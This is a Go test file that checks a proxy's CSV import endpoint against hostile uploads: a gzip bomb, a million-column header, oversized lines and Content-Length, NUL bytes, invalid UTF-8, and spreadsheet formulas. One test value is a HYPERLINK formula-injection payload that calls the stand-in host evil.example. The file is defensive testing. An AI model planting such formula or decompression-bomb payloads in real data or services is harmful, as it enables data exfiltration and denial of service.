package imports_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/vigie-dev/vigie/proxy/imports"
	"github.com/vigie-dev/vigie/proxy/proxytest"
)

// checkRefusal fails unless body is a JSON error with code and field,
// naming no Go error, path or address of the server.
func checkRefusal(t *testing.T, in *proxytest.Instance, what string, status int, body []byte, wantStatus int, wantCode, wantField string) {
	t.Helper()
	var e struct {
		Success     bool
		Code, Field string
		Error       string
	}
	if status != wantStatus || json.Unmarshal(body, &e) != nil || e.Code != wantCode || e.Field != wantField || e.Error == "" {
		t.Errorf("%s: %d %s, want %d %s naming %s", what, status, body, wantStatus, wantCode, wantField)
	}
	for _, leak := range []string{"csv:", "json:", "bufio", "/tmp", in.Config.DataDir, "127.0.0.1", "EOF"} {
		if bytes.Contains(body, []byte(leak)) {
			t.Errorf("%s: the answer shows %q: %s", what, leak, body)
		}
	}
}

// TestImportHostileFiles: files built to hurt the reader (a header of a
// million columns, a line of many MiB, a gzip bomb sent as CSV, NUL bytes,
// invalid UTF-8, a BOM with mixed line ends, spreadsheet formulas) and an
// absurd Content-Length each get a clear 4xx naming the problem, or are
// imported with every good row kept and each bad one a per-row error.
func TestImportHostileFiles(t *testing.T) {
	in := proxytest.Start(t)
	at := unixHourAgo()
	const header = "order_id,customer,at,total"
	row := func(id string) string { return id + ",c-1," + at + ",10" }

	// Refused at once.
	var bomb bytes.Buffer
	zw := gzip.NewWriter(&bomb)
	zeros := make([]byte, 1<<20)
	for range 64 {
		_, _ = zw.Write(zeros)
	}
	_ = zw.Close()
	for _, c := range []struct {
		name, file   string
		status       int
		code, field  string
		mustMentions string
	}{
		{"a header of a million columns", header + strings.Repeat(",c", 1_000_000) + "\n" + row("o-1") + "\n", 400, "invalid_file", "file", "1 MiB"},
		{"a gzip bomb sent as CSV", bomb.String(), 400, "invalid_file", "file", "gzip-compressed"},
		{"a header of invalid UTF-8", "order_id,cust\xffomer,at,total\n" + row("o-1") + "\n", 400, "invalid_mapping", "identity.column", "column"},
		{"a header of NUL bytes", "\x00\x00\x00\n" + row("o-1") + "\n", 400, "invalid_mapping", "identity.column", "column"},
	} {
		code, body := post(t, in, "", contractMapping, strings.NewReader(c.file), nil)
		checkRefusal(t, in, c.name, code, body, c.status, c.code, c.field)
		if !bytes.Contains(body, []byte(c.mustMentions)) {
			t.Errorf("%s: the answer does not say %q: %s", c.name, c.mustMentions, body)
		}
	}

	// An absurd Content-Length is refused before any byte of the body.
	conn, err := net.Dial("tcp", strings.TrimPrefix(in.URL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /admin/v1/imports HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: 1099511627776\r\n\r\n", in.AdminToken())
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	_, _ = buf.ReadFrom(resp.Body)
	resp.Body.Close()
	checkRefusal(t, in, "a Content-Length of 1 TiB", resp.StatusCode, buf.Bytes(), 413, "file_too_large", "file")

	// A compressed body (Content-Encoding) is refused, naming the header.
	var mb bytes.Buffer
	mw := multipart.NewWriter(&mb)
	_ = mw.WriteField("mapping", contractMapping)
	fw, _ := mw.CreateFormFile("file", "orders.csv")
	_, _ = fw.Write([]byte(header + "\n" + row("g-1") + "\n"))
	_ = mw.Close()
	var gz bytes.Buffer
	zw = gzip.NewWriter(&gz)
	_, _ = zw.Write(mb.Bytes())
	_ = zw.Close()
	code, body := in.Do("POST", "/admin/v1/imports", gz.Bytes(), http.Header{"Authorization": {"Bearer " + in.AdminToken()},
		"Content-Type": {mw.FormDataContentType()}, "Content-Encoding": {"gzip"}})
	checkRefusal(t, in, "a gzip Content-Encoding", code, body, 415, "unsupported_content_encoding", "Content-Encoding")

	// Imported, every good row kept.
	formula := `"=HYPERLINK(""http://evil.example/?x="",""click"")"`
	for _, c := range []struct {
		name             string
		file             string
		status           string
		accepted, failed int64
		reasons          []string
		errMentions      string
	}{
		{"a BOM and mixed line ends", "\ufeff" + header + "\r\n" + row("o-1") + "\r\n" + row("o-2") + "\n" + row("o-3") + "\r\n", imports.StatusDone, 3, 0, nil, ""},
		{"NUL bytes and invalid UTF-8 in values", header + "\n" + row("n-\x001") + "\n" + "n-2,c-1," + at + ",1\x000\n" + "n-\xff3,c-1," + at + ",1\n" + row("n-4") + "\n",
			imports.StatusDone, 2, 2, []string{"invalid_number", "invalid_utf8"}, ""},
		{"a formula in a value", header + "\n" + formula + ",c-1," + at + ",10\n" + row("=1+2") + "\n", imports.StatusDone, 2, 0, nil, ""},
		{"a line of 8 MiB after a good row", header + "\n" + row("l-1") + "\n" + "l-2,c-1," + at + ",1" + strings.Repeat("0", 8<<20) + "\n" + row("l-3") + "\n",
			imports.StatusFailed, 1, 0, nil, "larger than 1 MiB"},
	} {
		before := eventCount(t, in)
		j := wait(t, in, create(t, in, "", contractMapping, c.file).ID)
		if j.Status != c.status || j.Rows.Accepted != c.accepted || j.Rows.Failed != c.failed || !strings.Contains(j.Error, c.errMentions) {
			t.Errorf("%s: %s %+v failed by %v, error %q", c.name, j.Status, j.Rows, j.FailedByReason, j.Error)
		}
		for _, r := range c.reasons {
			if j.FailedByReason[r] != 1 {
				t.Errorf("%s: failed by %v, want one %s", c.name, j.FailedByReason, r)
			}
		}
		until(t, c.name+": the accepted rows stored", func() bool { return eventCount(t, in) == before+c.accepted })
	}
}
